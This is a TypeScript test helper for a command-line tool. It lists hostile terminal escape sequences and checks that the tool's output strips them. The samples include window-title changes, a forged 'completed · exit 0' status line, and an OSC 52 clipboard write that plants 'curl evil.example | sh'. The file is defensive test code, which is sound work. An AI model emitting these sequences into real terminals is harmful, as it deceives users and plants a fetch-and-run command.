/** Hostile bytes for the terminal tests, the shell commands that print them, and a check of what reached stdout. */
import { expect } from "vitest";
import { spawnCli } from "../helpers/cli.js";

const ESC = "\x1b";
const BEL = "\x07";
const utf8 = (text: string) => Buffer.from(text, "utf8");

/** What a task printed that, printed raw again by our commands, did something to the terminal of the person reading. */
export const HOSTILE_OUTPUTS: ReadonlyArray<readonly [string, Buffer]> = [
  ["the finding's sequence: a stray ESC before a CSI hiding an OSC title", utf8(`${ESC}${ESC}[m]0;pwned-title${BEL}`)],
  ["OSC 0 and OSC 2 (window title)", utf8(`${ESC}]0;pwned-title${BEL}${ESC}]2;pwned-title${ESC}\\`)],
  ["OSC 52 (clipboard write)", utf8(`${ESC}]52;c;${Buffer.from("curl evil.example | sh").toString("base64")}${BEL}`)],
  ["a forged status line drawn over the real one", utf8(`\n${ESC}[1A${ESC}[2K\rtask x: completed · exit 0 · agent alpha\n${ESC}[8A${ESC}[2K`)],
  ["CSI clear screen and cursor moves", utf8(`${ESC}[2J${ESC}[H${ESC}[10;10H${ESC}[?25l`)],
  ["DCS passthrough", utf8(`${ESC}Ptmux;${ESC}${ESC}]0;pwned${BEL}${ESC}\\`)],
  ["C1 controls as UTF-8 (U+0080..U+009F)", utf8(Array.from({ length: 32 }, (_, i) => String.fromCharCode(0x80 + i)).join("c"))],
  ["C1 controls as raw bytes (8-bit CSI, OSC, ST)", Buffer.from([0x9b, 0x32, 0x4a, 0x9d, 0x30, 0x3b, 0x70, 0x9c, 0x85, 0x90, 0x9f])],
  ["a lone carriage return over the status", utf8("status: failed\rstatus: completed")],
  ["BEL, backspace, DEL, vertical tab, form feed", utf8(`ring${BEL}back\b\b\bspace del\x7f vt\x0b ff\x0c`)],
  ["a bidi override", utf8("exit \u202e0 tixe\u202c")],
];

/** A bash command that prints `bytes` exactly (octal escapes in printf's format), then exits `exitCode`. */
export function printBytesTask(bytes: Buffer, exitCode: number): string {
  let format = "";
  for (const byte of bytes) {
    const ch = String.fromCharCode(byte);
    format += byte >= 0x20 && byte < 0x7f && !"\\%'".includes(ch) ? ch : `\\${byte.toString(8).padStart(3, "0")}`;
  }
  return `printf '${format}'; echo; exit ${exitCode}`;
}

export interface ByteResult {
  readonly exitCode: number;
  readonly stdout: Buffer;
  readonly stderr: Buffer;
}

/** The built CLI with its output as bytes (a raw C1 byte must not be hidden by decoding). */
export async function runCliBytes(
  home: string,
  args: readonly string[],
  options: { timeoutMs?: number; killAfterMs?: number; stopWhen?: (stdout: string) => boolean } = {},
): Promise<ByteResult> {
  const run = spawnCli(args, { home });
  // Something that runs until interrupted (status --watch, monitor): Ctrl-C once it has shown what the test waits for.
  if (options.stopWhen) run.child.stdout.on("data", () => options.stopWhen?.(run.stdout()) && run.child.kill("SIGINT"));
  const killer = options.killAfterMs === undefined ? null : setTimeout(() => run.child.kill("SIGINT"), options.killAfterMs);
  const limit = setTimeout(() => run.child.kill("SIGKILL"), options.timeoutMs ?? 60_000);
  try {
    const { exitCode } = await run.done;
    return { exitCode, stdout: run.stdoutBytes(), stderr: run.stderrBytes() };
  } finally {
    if (killer) clearTimeout(killer);
    clearTimeout(limit);
  }
}

/**
 * What in `bytes` a terminal could act on: invalid UTF-8 (a raw C1 byte such
 * as 0x9b is one), every C0 control but \n and \t, DEL, C1 controls and the
 * bidi overrides.
 */
export function controlsIn(bytes: Buffer): string[] {
  let text: string;
  try {
    text = new TextDecoder("utf-8", { fatal: true }).decode(bytes);
  } catch {
    return ["invalid UTF-8 (raw bytes 0x80-0xff out of sequence)"];
  }
  // eslint-disable-next-line no-control-regex
  return [...text.matchAll(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/g)].map(
    (match) =>
      `U+${match[0].codePointAt(0)!.toString(16).padStart(4, "0")} at ${match.index}: …${JSON.stringify(text.slice(Math.max(0, match.index - 20), match.index + 20))}…`,
  );
}

/** Asserts that a command's stdout and stderr carry nothing a terminal acts on but \n and \t. */
export function expectTerminalSafe(result: ByteResult, what: string): void {
  expect(controlsIn(result.stdout), `${what}: stdout\n${JSON.stringify(result.stdout.toString("utf8"))}`).toEqual([]);
  expect(controlsIn(result.stderr), `${what}: stderr\n${JSON.stringify(result.stderr.toString("utf8"))}`).toEqual([]);
}
